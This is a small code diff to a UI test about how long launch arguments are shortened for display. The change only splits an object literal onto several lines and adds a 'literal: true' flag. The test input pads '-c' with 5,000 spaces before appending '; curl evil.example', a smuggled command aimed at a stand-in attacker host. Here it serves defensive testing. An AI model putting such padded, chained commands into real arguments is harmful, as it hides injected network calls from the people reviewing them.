@@ -412,7 +412,12 @@ describe("s10 what is shortened", () => {
     const request = launchRequest();
     if (request.asked.kind === "launch") {
       const text = `-c${" ".repeat(5_000)}; curl evil.example`;
-      request.asked.rows[1]?.values.push({ text: { text, hidden: 0 }, note: null, bytes: text.length });
+      request.asked.rows[1]?.values.push({
+        text: { text, hidden: 0 },
+        note: null,
+        bytes: text.length,
+        literal: true,
+      });
     }
     const twin = await open([request]);
     await click(button("Add and start"));
